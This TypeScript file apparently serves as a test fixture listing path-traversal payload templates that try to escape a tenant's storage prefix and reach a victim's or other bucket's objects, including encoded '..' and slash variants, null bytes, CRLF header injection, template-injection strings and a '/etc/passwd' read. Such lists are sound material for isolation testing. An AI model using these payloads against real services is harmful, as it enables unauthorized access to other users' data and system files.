const UP = ['..', '%2e%2e', '%2E%2E', '.%2e', '%2e.', '%252e%252e', '%2e%2e%2e', '..%00', '..;', '..%20', '%20..', '%E2%80%A5', '%EF%BC%8E%EF%BC%8E', '%c0%ae%c0%ae'];
const SLASHES = ['%2F', '%2f', '%5C', '\\', '%252F', '%25252F', '//', '/./', '%2F.%2F', '%EF%BC%8F', '%E2%81%84', '%c0%af', ';/', '%00/', '%3F/', '%23/', '%0d%0a/'];

/** Ways to ask for what is beside a prefix. */
export const PATHS: readonly string[] = [
  ...UP.map(up => `/${up}/{victim}/hidden`),
  ...SLASHES.map(slash => `/..${slash}{victim}${slash}hidden`),
  // In other places of the path.
  '/./../{victim}/hidden', '/x/../../{victim}/hidden', '/x%2F..%2F..%2F{victim}%2Fhidden', '/x//../../{victim}/hidden', '//../{victim}/hidden', '/.//../{victim}/hidden',
  '/{victim}/../../{victim}/hidden', '/own/../../{victim}/hidden', '/../{victim}/hidden/', '/../{victim}/hidden/.', '/../{victim}/x/../hidden', '/../{victim}//hidden',
  // As far up as there is anything.
  '/../../{within}{victim}/hidden', '/../../hidden', '/../hidden', '/../../../{bucket}/{within}{victim}/hidden', '/../../{bucket}/{within}{victim}/hidden',
  '/../../../{other}/hidden', '/../../{other}/hidden', '/..%2F..%2F..%2F{other}%2Fhidden', '/../../../../../../etc/passwd',
  // The folders themselves.
  '/..', '/../', '/%2e%2e', '/..%2F', '/.', '/./', '/%2e', '/../.', '/../..', '/../../', '/..%2F..%2F', '/../../..', '/../{victim}', '/../{victim}/', '/../{attacker}', '/../{attacker}/../',
  // What begins as the attacker does.
  '/../{attacker}hidden', '/..%2F{attacker}hidden', '/../{attacker}/../{attacker}hidden',
  // Whole names, as if there were no prefix.
  '/{victim}/hidden', '/{within}{victim}/hidden', '/{bucket}/{within}{victim}/hidden', '//{bucket}/{within}{victim}/hidden', '/%2F{bucket}%2F{within}{victim}%2Fhidden',
  '/%2F{within}{victim}%2Fhidden', '///{victim}/hidden', '/%2F%2F{victim}/hidden', '/%5C%5C{other}%5Chidden', '/s3:%2F%2F{other}%2Fhidden',
  // What a template or a pattern could make of it.
  '/*', '/%2A%2F..%2F{victim}%2Fhidden', '/%3F', '/%7Bkey%7D/../../{victim}/hidden', '/%7Btenant%7D/../../{victim}/hidden', '/$%7Baws:Referer%7D', '/$context.path/../../{victim}/hidden',
  '/%23set($context.requestOverride.path.tenant=%22{victim}%22)', '/hidden%0d%0aReferer:%20{victim}', '/..%3Fprefix%3D{within}{victim}%2F', '/..%26prefix%3D', '/..%23', '/x?/../{victim}/hidden',
  '/x#/../{victim}/hidden', '/..?prefix={within}{victim}%2F&x=', '/%', '/%zz/../{victim}/hidden', `/${'x'.repeat(1100)}/../../{victim}/hidden`, `/${'../'.repeat(40)}{other}/hidden`,
];
